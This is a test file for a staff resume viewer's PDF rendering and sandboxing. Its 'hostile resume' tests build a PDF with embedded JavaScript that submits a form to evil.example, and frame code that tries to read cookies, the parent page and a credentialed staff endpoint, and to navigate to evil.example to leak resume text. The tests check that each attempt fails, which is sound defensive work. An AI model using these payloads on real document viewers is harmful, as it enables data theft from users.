import type { Page } from 'playwright-core';
import { describe, expect } from 'vitest';
import { MOST_PDF_PAGES } from '../../src/contract/staff/pdf-frame.ts';
import { makeStructuredDocx, makeWordsPdf } from '../factories/files/readable-resumes.ts';
import { readReal } from '../factories/files/resumes.ts';
import { makeApplication, makeContact } from '../factories/rows.ts';
import { submit } from '../factories/submit.ts';
import { expectAccessible } from './axe.ts';
import { apply, drawnFrame, openItem, reader } from './resume-reader.ts';
import { test as base } from './site.ts';
import { enterAs } from './staff-browser.ts';
import { expectFit } from './well-made.ts';

/** An empty inbox and a signed-in recruiter. */
const test = base.extend<{ memberId: string }>({
  memberId: async ({ page, site }, use) => {
    await site.db.deleteFrom('submissions').execute();
    const { id } = await enterAs(page, site, 'owner');
    await use(id);
  },
});

/** Words in the resume that is shown now: the frame of the one before may still be there for a moment. */
const wordsIn = (page: Page, words: string) => reader(page).frameLocator('iframe').getByText(words);

const sentence = (page: Page) =>
  reader(page).getByRole('heading', { name: 'This resume cannot be shown here' }).locator('xpath=..');

describe('the resume', () => {
  test('is drawn beside the facts, with text to select, pages and zoom', async ({ page, site, memberId }) => {
    const pages = ['First page of Asha', 'Second page of Asha'];
    const reference = await apply(site, 'Asha Rao', makeWordsPdf({ pages }));
    const loaded: string[] = [];
    page.on('request', (request) => loaded.push(new URL(request.url()).pathname));
    await openItem(page, reference);
    expect(loaded.filter((path) => /pdf|reader|reading/i.test(path))).toEqual([]);

    await page.getByRole('button', { name: 'Read', exact: true }).click();
    const frame = await drawnFrame(page);
    expect(await page.getByRole('article', { name: reference }).isVisible()).toBe(true);
    const words = frame.getByText('First page of Asha');
    await words.waitFor();
    const selected = await words.evaluate((element) => {
      getSelection()?.selectAllChildren(element);
      return String(getSelection());
    });
    expect(selected).toBe('First page of Asha');
    // The page is not blank: the letters are black on white.
    const canvas = frame.locator('canvas').first();
    const hasDarkPixels = () =>
      canvas.evaluate((drawn: HTMLCanvasElement) => {
        const copy = new OffscreenCanvas(drawn.width, drawn.height);
        const context = copy.getContext('2d');
        context?.drawImage(drawn, 0, 0);
        const { data } = context?.getImageData(0, 0, copy.width, copy.height) ?? { data: [] };
        return data.some((value, at) => at % 4 === 0 && value < 80);
      });
    await expect.poll(hasDarkPixels).toBe(true);
    await expectFit(page, 'a resume that is read');
    await expectAccessible(frame, 'the frame of a resume');

    const field = reader(page).getByRole('textbox', { name: 'Page' });
    await reader(page).getByText('of 2').waitFor();
    await field.fill('2');
    await field.press('Enter');
    await frame.getByText('Second page of Asha').waitFor();
    await expect.poll(() => field.inputValue()).toBe('2');

    const percent = async () =>
      Number.parseInt(await reader(page).getByLabel('Zoom', { exact: true }).innerText(), 10);
    const fitted = await percent();
    await reader(page)
      .getByRole('button', { name: /^Zoom in/ })
      .click();
    await expect.poll(percent).toBeGreaterThan(fitted);
    await frame.locator('#container').press('0');
    await expect.poll(percent).toBe(fitted);

    const lines = await site.db
      .selectFrom('staff_audit')
      .select(['member_id', 'subject'])
      .where('action', '=', 'resume read')
      .where('subject', '=', reference)
      .execute();
    expect(lines).toEqual([{ member_id: memberId, subject: reference }]);
  });

  test('gives way to the next applicant’s by key, from within the frame as well', async ({
    page,
    site,
    memberId: _,
  }) => {
    const third = await apply(site, 'Third Applicant', makeStructuredDocx(), 'cv.docx');
    const without = await submit(site, 'application', makeApplication({ FullName: 'Without Resume' }));
    await submit(site, 'contact', makeContact({ fullName: 'No Applicant' }));
    const second = await apply(site, 'Second Applicant', makeWordsPdf({ pages: ['Words of the second'] }));
    const first = await apply(site, 'First Applicant', makeWordsPdf({ pages: ['Words of the first'] }));
    const opened = () => new URL(page.url()).searchParams.get('item');
    const isFocusInReader = () =>
      page.evaluate(() => document.activeElement?.closest('.resume-reader') !== null);

    await openItem(page, first);
    await page.keyboard.press('v');
    await wordsIn(page, 'Words of the first').waitFor();
    await expect.poll(isFocusInReader).toBe(true);
    // The key is pressed in the frame, which has the focus.
    await page.keyboard.press('j');
    await expect.poll(opened).toBe(second);
    await reader(page).getByText('Second Applicant').waitFor();
    await wordsIn(page, 'Words of the second').waitFor();
    await expect.poll(isFocusInReader).toBe(true);
    // What is no application is passed over; one without a resume is not.
    await page.keyboard.press('j');
    await expect.poll(opened).toBe(without);
    await reader(page).getByRole('heading', { name: 'No resume' }).waitFor();
    await page.keyboard.press('j');
    await expect.poll(opened).toBe(third);
    await reader(page).getByRole('heading', { name: 'Ravi Kumar', level: 3 }).waitFor();
    await page.keyboard.press('k');
    await page.keyboard.press('k');
    await expect.poll(opened).toBe(second);
    await wordsIn(page, 'Words of the second').waitFor();
    await page.keyboard.press('Escape');
    await reader(page).waitFor({ state: 'detached' });
    await expect.poll(opened).toBe(second);
    await page.getByRole('button', { name: 'Read', exact: true }).waitFor();
    await expect.poll(() => page.evaluate(() => document.activeElement?.textContent?.trim())).toBe('Read');
  });
});

describe('a hostile resume', () => {
  const unreadable: [what: string, make: () => Buffer, sentence: RegExp][] = [
    ['encrypted', () => readReal('libreoffice-encrypted.pdf'), /protected/],
    [
      'of ten thousand pages',
      () => makeWordsPdf({ pages: Array.from({ length: 10_000 }, () => 'x') }),
      new RegExp(`more than ${MOST_PDF_PAGES} pages`),
    ],
    ['whose only page is missing', () => makeWordsPdf({ pages: [], claimedPages: 1 }), /damaged/],
  ];

  test.for(unreadable)(
    'that is %s is said to be, and can be downloaded',
    async ([, make, words], { page, site, memberId: _ }) => {
      const reference = await apply(site, 'Hostile', make());
      await openItem(page, reference, '&resume=open');
      await expect.poll(() => sentence(page).innerText()).toMatch(words);
      expect(await sentence(page).getByRole('link', { name: 'Download' }).getAttribute('href')).toBe(
        `/staff/files/resumes/${reference}`,
      );
      await expect.poll(() => reader(page).locator('iframe').count()).toBe(0);
    },
  );

  test('runs no script, follows no link and loads nothing', async ({ page, site, memberId: _ }) => {
    const script = '/S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\("https://evil.example/"\\);)';
    const bytes = makeWordsPdf({
      catalogue: `/OpenAction<<${script}>>/AA<</WC<<${script}>>>>/AcroForm<</Fields[100 0 R]/NeedAppearances true>>`,
      objects: [
        `<</Type/Annot/Subtype/Widget/FT/Tx/T(x)/Rect[60 600 300 640]/AA<</F<<${script}>>>>>>`,
        '<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(https://evil.example/)>>>>',
      ],
    });
    const reference = await apply(site, 'Scripted', bytes);
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    page.on('dialog', (dialog) => asked.push(`a dialog: ${dialog.message()}`));
    await openItem(page, reference, '&resume=open');
    const frame = await drawnFrame(page);
    await frame.getByText('Twelve years').click();
    expect(page.url()).toContain(reference);
    expect(asked.filter((url) => !url.startsWith(site.origin) && !/^(blob|data):/.test(url))).toEqual([]);
  });

  test('that took over its frame reaches nothing of the staff area', async ({
    page,
    site,
    errors,
    memberId: _,
  }) => {
    const other = await apply(site, 'Next Applicant', makeWordsPdf({ pages: ['Words of the next'] }));
    const reference = await apply(site, 'Hostile', makeWordsPdf());
    await openItem(page, reference, '&resume=open');
    const frame = await drawnFrame(page);
    errors.expected.push(
      /CORS policy|Content Security Policy|Failed to load resource|sandboxed|Unsafe attempt|permission/,
    );
    const asked = page.waitForRequest((request) => request.url().endsWith('/staff/trpc/ownAccount.who?bare'));
    const reached = await frame.evaluate(async () => {
      const attempt = async (what: () => unknown) => {
        try {
          return String(await what());
        } catch (error) {
          return (error as Error).name;
        }
      };
      return {
        origin: location.origin === 'null' ? 'null' : origin,
        cookies: await attempt(() => document.cookie),
        parent: await attempt(() => parent.document.title),
        stored: await attempt(() => localStorage.length),
        staff: await attempt(() => fetch('/staff/trpc/ownAccount.who').then(({ status }) => status)),
        unread: await attempt(() =>
          fetch('/staff/trpc/ownAccount.who?bare', { mode: 'no-cors', credentials: 'include' }).then(
            ({ type }) => type,
          ),
        ),
        window: await attempt(() => open('https://evil.example/')),
        top: await attempt(() => {
          if (top) top.location.href = 'https://evil.example/';
        }),
        elsewhere: await attempt(() => fetch('https://evil.example/').then(({ status }) => status)),
        text: await attempt(() => new Function('return 1')()),
      };
    });
    expect(reached).toEqual({
      origin: 'null',
      cookies: 'SecurityError',
      parent: 'SecurityError',
      stored: 'SecurityError',
      staff: 'TypeError',
      unread: 'TypeError',
      window: 'null',
      top: 'SecurityError',
      elsewhere: 'TypeError',
      text: 'EvalError',
    });
    expect(await (await asked).allHeaders()).not.toHaveProperty('cookie');

    // It cannot press keys that change something, and none while the member is busy elsewhere.
    await reader(page).getByRole('heading', { name: 'Hostile' }).click();
    const pressing = (key: string) =>
      frame.evaluate((pressed) => parent.postMessage({ type: 'key', key: pressed }, '*'), key);
    // Messages of another process arrive later, and the focus must not be there before them.
    await page.evaluate(() => {
      Object.assign(window, { heard: 0 });
      addEventListener('message', () => {
        Object.assign(window, { heard: (window as unknown as { heard: number }).heard + 1 });
      });
    });
    for (const key of ['j', 'Escape', 'a']) await pressing(key);
    await expect
      .poll(() => page.evaluate(() => (window as unknown as { heard: number }).heard))
      .toBeGreaterThanOrEqual(3);
    await reader(page).locator('iframe').focus();
    await pressing('a');
    await pressing('x');
    await pressing('j');
    await expect.poll(() => page.url()).toContain(other);
    await wordsIn(page, 'Words of the next').waitFor();
    const acts = await site.db.selectFrom('staff_audit').select('action').distinct().execute();
    expect(acts.map(({ action }) => action)).not.toContain('assigned');

    // Nor can it lead its frame to an address that would learn what the resume says.
    const next = await drawnFrame(page);
    const left: string[] = [];
    page.on('request', (request) => left.push(request.url()));
    await next.evaluate(() => {
      location.href = 'https://evil.example/?words';
    });
    await expect.poll(() => errors.seen.join()).toMatch(/evil\.example/);
    expect(left.filter((url) => url.includes('evil'))).toEqual([]);
  });
});
